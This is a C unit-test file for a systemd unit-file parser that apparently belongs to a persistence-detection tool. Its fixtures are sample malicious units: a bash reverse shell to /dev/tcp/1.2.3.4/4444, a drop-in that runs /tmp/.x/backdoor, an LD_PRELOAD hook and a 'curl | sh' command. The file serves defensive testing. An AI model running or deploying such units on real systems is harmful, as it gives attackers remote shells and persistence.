/* test_detail_unit.c - unit tests of the systemd unit extractor (fh_detail_unit). */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "persist/persist.h"

static json_t *parse(const char *name, const char *text)
{
	json_t *j = fh_detail_unit(name, text, strlen(text));

	assert_non_null(j);
	return j;
}

/* Compares j with the JSON text want, printing both on a mismatch. */
static void assert_json(json_t *j, const char *want)
{
	json_t *w = json_loads(want, 0, NULL);

	assert_non_null(w);
	if (!json_equal(j, w)) {
		char *got = json_dumps(j, JSON_SORT_KEYS);

		print_error("got  %s\nwant %s\n", got, want);
		free(got);
		fail();
	}
	json_decref(w);
}

static void test_service(void **state)
{
	(void)state;
	json_t *j = parse("evil.service",
			  "[Unit]\n"
			  "Description=x\n"
			  "ExecStart=/not/a/command\n"
			  "\n"
			  "[Service]\n"
			  "Type=simple\n"
			  "ExecStartPre=/bin/true\n"
			  "ExecStart=/usr/bin/bash -c 'sh -i >& /dev/tcp/1.2.3.4/4444 0>&1'\n"
			  "User=root\n"
			  "Group=wheel\n"
			  "Restart=always\n"
			  "user=ignored\n"
			  "[Install]\n"
			  "WantedBy=multi-user.target  default.target\n"
			  "RequiredBy=sshd.service\n"
			  "Alias=dbus-x.service\n"
			  "Also=evil.timer\n");

	assert_json(j, "{\"unit_type\":\"service\","
		       "\"exec\":[{\"key\":\"ExecStartPre\",\"value\":\"/bin/true\",\"line\":7},"
		       "{\"key\":\"ExecStart\",\"value\":\"/usr/bin/bash -c 'sh -i >& "
		       "/dev/tcp/1.2.3.4/4444 0>&1'\",\"line\":8}],"
		       "\"user\":\"root\",\"group\":\"wheel\",\"restart\":\"always\","
		       "\"wanted_by\":[\"multi-user.target\",\"default.target\"],"
		       "\"required_by\":[\"sshd.service\"],\"alias\":[\"dbus-x.service\"],"
		       "\"also\":[\"evil.timer\"]}");
	json_decref(j);
}

static void test_dropin_reset(void **state)
{
	(void)state;
	json_t *j = parse("/etc/systemd/system/ssh.service.d/override.conf",
			  "[Service]\nExecStart=\nExecStart=/tmp/.x/backdoor\nUser=\n");

	assert_json(j, "{\"unit_type\":\"dropin\","
		       "\"exec\":[{\"key\":\"ExecStart\",\"reset\":true,\"line\":2},"
		       "{\"key\":\"ExecStart\",\"value\":\"/tmp/.x/backdoor\",\"line\":3}]}");
	json_decref(j);
}

static void test_environment(void **state)
{
	(void)state;
	json_t *j = parse("x.service", "[Service]\n"
				       "Environment=\"A=one two\" B=3 C=\"x y\"\n"
				       "Environment=LD_PRELOAD=/tmp/libhook.so\n"
				       "EnvironmentFile=-/etc/default/x\n");

	assert_json(j, "{\"unit_type\":\"service\","
		       "\"environment\":[\"A=one two\",\"B=3\",\"C=x y\","
		       "\"LD_PRELOAD=/tmp/libhook.so\"],"
		       "\"environment_files\":[\"-/etc/default/x\"],\"preload\":true}");
	json_decref(j);

	j = parse("x.service", "[Service]\nEnvironment=LD_AUDIT_NOT=1 'LD_AUDIT=/a b'\n");
	assert_json(j, "{\"unit_type\":\"service\","
		       "\"environment\":[\"LD_AUDIT_NOT=1\",\"LD_AUDIT=/a b\"],\"preload\":true}");
	json_decref(j);

	j = parse("x.service",
		  "[Service]\nEnvironment=PATH=/bin\n[Unit]\nEnvironment=LD_PRELOAD=x\n");
	assert_json(j, "{\"unit_type\":\"service\",\"environment\":[\"PATH=/bin\"]}");
	json_decref(j);
}

static void test_timer(void **state)
{
	(void)state;
	json_t *j = parse("x.timer", "[Unit]\nDescription=t\n[Timer]\n"
				     "OnCalendar=*-*-* 03:00:00\n"
				     "OnCalendar=hourly\n"
				     "OnBootSec=5min\n"
				     "Persistent=true\n"
				     "Unit=evil.service\n"
				     "[Install]\nWantedBy=timers.target\n");

	assert_json(j, "{\"unit_type\":\"timer\",\"timer\":{\"OnCalendar\":[\"*-*-* 03:00:00\","
		       "\"hourly\"],\"OnBootSec\":[\"5min\"],\"Persistent\":\"true\","
		       "\"Unit\":\"evil.service\"},\"wanted_by\":[\"timers.target\"]}");
	json_decref(j);
}

static void test_socket(void **state)
{
	(void)state;
	json_t *j = parse("x.socket", "[Socket]\nListenStream=0.0.0.0:4444\n"
				      "ListenDatagram=/run/x.sock\nAccept=yes\n"
				      "Service=evil.service\nExecStartPre=/bin/prep\n");

	assert_json(j, "{\"unit_type\":\"socket\",\"socket\":{\"ListenStream\":[\"0.0.0.0:4444\"],"
		       "\"ListenDatagram\":[\"/run/x.sock\"],\"Accept\":\"yes\","
		       "\"Service\":\"evil.service\"},"
		       "\"exec\":[{\"key\":\"ExecStartPre\",\"value\":\"/bin/prep\",\"line\":6}]}");
	json_decref(j);
}

static void test_path(void **state)
{
	(void)state;
	json_t *j = parse("x.path", "[Path]\nPathExists=/tmp/trigger\nPathChanged=/etc/passwd\n"
				    "PathModified=/etc/shadow\nDirectoryNotEmpty=/var/spool/x\n"
				    "Unit=evil.service\n");

	assert_json(j, "{\"unit_type\":\"path\",\"path\":{\"PathExists\":[\"/tmp/trigger\"],"
		       "\"PathChanged\":[\"/etc/passwd\"],\"PathModified\":[\"/etc/shadow\"],"
		       "\"DirectoryNotEmpty\":[\"/var/spool/x\"],\"Unit\":\"evil.service\"}}");
	json_decref(j);
}

static void test_continuation(void **state)
{
	(void)state;
	json_t *j = parse("x.service", "[Service]\n"
				       "ExecStart=/bin/sh -c \\\n"
				       "  'curl http://x | sh' \\\n"
				       "# a comment between continuation lines\n"
				       "; and another\n"
				       "  --end\n"
				       "ExecStop=/bin/echo \\\\\n"
				       "User=nobody\n"
				       "ExecReload=/bin/last \\");

	assert_json(j, "{\"unit_type\":\"service\",\"exec\":["
		       "{\"key\":\"ExecStart\",\"value\":\"/bin/sh -c    'curl http://x | sh'    "
		       "--end\",\"line\":2},"
		       "{\"key\":\"ExecStop\",\"value\":\"/bin/echo \\\\\\\\\",\"line\":7},"
		       "{\"key\":\"ExecReload\",\"value\":\"/bin/last\",\"line\":9}],"
		       "\"user\":\"nobody\"}");
	json_decref(j);
}

static void test_comments(void **state)
{
	(void)state;
	json_t *j = parse("x.service", "# ExecStart=/no\n"
				       "; ExecStart=/no\n"
				       "[Service]\n"
				       "  # ExecStart=/no\n"
				       "\t; User=no\n"
				       "# ends in a backslash, does not continue \\\n"
				       "User=yes\n");

	assert_json(j, "{\"unit_type\":\"service\",\"user\":\"yes\"}");
	json_decref(j);
}

static void test_errors(void **state)
{
	(void)state;
	json_t *j = parse("weird", "ExecStart=/outside\n"
				   "\n"
				   "[Service\n"
				   "[Service]\n"
				   "just words\n"
				   "=value\n"
				   "ExecStart = /inside \n");

	assert_json(j, "{\"unit_type\":\"unknown\",\"errors\":["
		       "{\"line\":1,\"message\":\"assignment outside of any section\","
		       "\"text\":\"ExecStart=/outside\"},"
		       "{\"line\":3,\"message\":\"invalid section header\",\"text\":\"[Service\"},"
		       "{\"line\":5,\"message\":\"missing '='\",\"text\":\"just words\"},"
		       "{\"line\":6,\"message\":\"missing key before '='\",\"text\":\"=value\"}],"
		       "\"exec\":[{\"key\":\"ExecStart\",\"value\":\"/inside\",\"line\":7}]}");
	json_decref(j);
}

static void test_invalid_utf8(void **state)
{
	(void)state;
	json_t *j = parse("x.service", "[Service]\nExecStart=/bin/\xff\xfe\nUser=r\xc3\xa9mi\n");

	assert_json(j, "{\"unit_type\":\"service\",\"user\":\"r\xc3\xa9mi\",\"errors\":["
		       "{\"line\":2,\"message\":\"invalid UTF-8, systemd ignores the line\","
		       "\"text\":\"ExecStart=/bin/\xef\xbf\xbd\xef\xbf\xbd\"}]}");
	json_decref(j);
}

static void test_crlf_and_nul(void **state)
{
	(void)state;
	static const char text[] = "\xef\xbb\xbf[Service]\r\nExecStart=/bin/a \\\r\n b\r\n"
				   "User=u\r\rGroup=g\0Restart=no";
	json_t *j = fh_detail_unit("x.service", text, sizeof(text) - 1);

	assert_non_null(j);
	assert_json(j, "{\"unit_type\":\"service\",\"exec\":[{\"key\":\"ExecStart\","
		       "\"value\":\"/bin/a   b\",\"line\":2}],"
		       "\"user\":\"u\",\"group\":\"g\",\"restart\":\"no\"}");
	json_decref(j);
}

static void test_unit_types(void **state)
{
	(void)state;
	static const char *const names[][2] = {
		{ "a.mount", "mount" },	     { "a.target", "target" }, { "a.conf", "dropin" },
		{ "a.b/c", "unknown" },	     { "noext", "unknown" },   { "x.services", "unknown" },
		{ "/a.d/b.slice", "slice" },
	};

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		json_t *j = fh_detail_unit(names[i][0], "", 0);

		assert_non_null(j);
		assert_string_equal(json_string_value(json_object_get(j, "unit_type")),
				    names[i][1]);
		assert_int_equal(json_object_size(j), 1);
		json_decref(j);
	}
	json_t *j = fh_detail_unit(NULL, NULL, 0);

	assert_json(j, "{\"unit_type\":\"unknown\"}");
	json_decref(j);
}

static void test_bounds(void **state)
{
	(void)state;
	size_t n = FH_DETAIL_MAX_INPUT + 100, i;
	char *big = malloc(n), *end;
	json_t *j;

	assert_non_null(big);
	/* More items than listed: WantedBy words past FH_DETAIL_MAX_ITEMS. */
	end = big + sprintf(big, "[Install]\nWantedBy=");
	for (i = 0; i < FH_DETAIL_MAX_ITEMS + 5; i++)
		end += sprintf(end, "a.target ");
	j = parse("x.service", big);
	assert_int_equal(json_array_size(json_object_get(j, "wanted_by")), FH_DETAIL_MAX_ITEMS);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	json_decref(j);

	/* Input past FH_DETAIL_MAX_INPUT: the tail is not read. */
	memset(big, '\n', n);
	memcpy(big, "[Service]\n", 10);
	memcpy(big + FH_DETAIL_MAX_INPUT - 20, "User=early\n", 11);
	memcpy(big + FH_DETAIL_MAX_INPUT + 10, "User=late\n", 10);
	j = fh_detail_unit("x.service", big, n);
	assert_non_null(j);
	assert_json(j, "{\"unit_type\":\"service\",\"user\":\"early\",\"truncated\":true}");
	json_decref(j);

	/* 1 MiB of garbage lines: errors stop at the bound, quickly. */
	for (i = 0; i < FH_DETAIL_MAX_INPUT; i++)
		big[i] = (char)((i * 7919u) % 251u + 1u);
	j = fh_detail_unit("x.service", big, FH_DETAIL_MAX_INPUT);
	assert_non_null(j);
	assert_true(json_array_size(json_object_get(j, "errors")) <= FH_DETAIL_MAX_ITEMS);
	json_decref(j);

	/* One 1 MiB line of backslash continuations. */
	for (i = 0; i + 1 < FH_DETAIL_MAX_INPUT; i += 2) {
		big[i] = '\\';
		big[i + 1] = '\n';
	}
	j = fh_detail_unit("x.service", big, FH_DETAIL_MAX_INPUT);
	assert_non_null(j);
	json_decref(j);
	free(big);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_service),	     cmocka_unit_test(test_dropin_reset),
		cmocka_unit_test(test_environment),  cmocka_unit_test(test_timer),
		cmocka_unit_test(test_socket),	     cmocka_unit_test(test_path),
		cmocka_unit_test(test_continuation), cmocka_unit_test(test_comments),
		cmocka_unit_test(test_errors),	     cmocka_unit_test(test_invalid_utf8),
		cmocka_unit_test(test_crlf_and_nul), cmocka_unit_test(test_unit_types),
		cmocka_unit_test(test_bounds),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
